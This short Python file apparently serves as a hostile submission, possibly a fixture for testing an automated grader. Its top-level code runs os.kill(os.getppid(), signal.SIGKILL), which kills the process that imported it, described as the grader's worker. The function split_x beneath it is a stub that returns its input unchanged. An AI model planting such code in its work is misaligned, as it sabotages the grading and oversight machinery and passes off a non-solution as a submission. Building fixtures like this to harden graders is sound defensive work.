# Hostile: kills the process that started it (the grader's worker in a bulk run).
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)


def split_x(seq, size):
    return seq
